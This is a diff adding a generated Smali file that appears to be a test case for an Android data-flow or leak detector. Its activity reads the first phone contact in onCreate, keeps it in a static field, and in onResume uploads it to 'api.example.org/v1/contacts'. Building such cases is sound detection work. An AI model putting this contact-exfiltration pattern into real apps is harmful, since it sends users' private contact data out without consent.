@@ -1,0 +1,71 @@
+# Made by tests/cases/compile.py
+.class public final Lcases/flow_static_field/Main;
+.super Landroid/app/Activity;
+
+.field static collected:Ljava/lang/String;
+
+.method public constructor <init>()V
+    .registers 1
+    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
+    return-void
+.end method
+
+.method protected onCreate(Landroid/os/Bundle;)V
+    .registers 9
+    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
+    invoke-virtual {p0}, Lcases/flow_static_field/Main;->getContentResolver()Landroid/content/ContentResolver;
+    move-result-object v1
+    sget-object v2, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
+    const/4 v3, 0x0
+    const/4 v4, 0x0
+    const/4 v5, 0x0
+    const/4 v6, 0x0
+    invoke-virtual/range {v1 .. v6}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
+    move-result-object v0
+    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
+    const/4 v1, 0x0
+    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
+    move-result-object v1
+    sput-object v1, Lcases/flow_static_field/Main;->collected:Ljava/lang/String;
+    return-void
+.end method
+
+.method protected onResume()V
+    .registers 4
+    invoke-super {p0}, Landroid/app/Activity;->onResume()V
+    :l_4
+    sget-object v1, Lcases/flow_static_field/Main;->collected:Ljava/lang/String;
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lcases/flow_static_field/Main;->send([B)V
+    :l_d
+    goto :l_19
+    :l_10
+    move-exception v0
+    const-string v1, "upload"
+    const-string v2, "later"
+    invoke-static {v1, v2}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
+    :l_19
+    return-void
+    .catch Ljava/io/IOException; {:l_4 .. :l_d} :l_10
+.end method
+
+.method static send([B)V
+    .registers 5
+    new-instance v2, Ljava/net/URL;
+    const-string v3, "https://api.example.org/v1/contacts"
+    invoke-direct {v2, v3}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+    move-result-object v0
+    check-cast v0, Ljava/net/HttpURLConnection;
+    const/4 v2, 0x1
+    invoke-virtual {v0, v2}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
+    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v1
+    invoke-virtual {v1, p0}, Ljava/io/OutputStream;->write([B)V
+    invoke-virtual {v1}, Ljava/io/OutputStream;->close()V
+    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getInputStream()Ljava/io/InputStream;
+    move-result-object v2
+    invoke-virtual {v2}, Ljava/io/InputStream;->close()V
+    return-void
+.end method
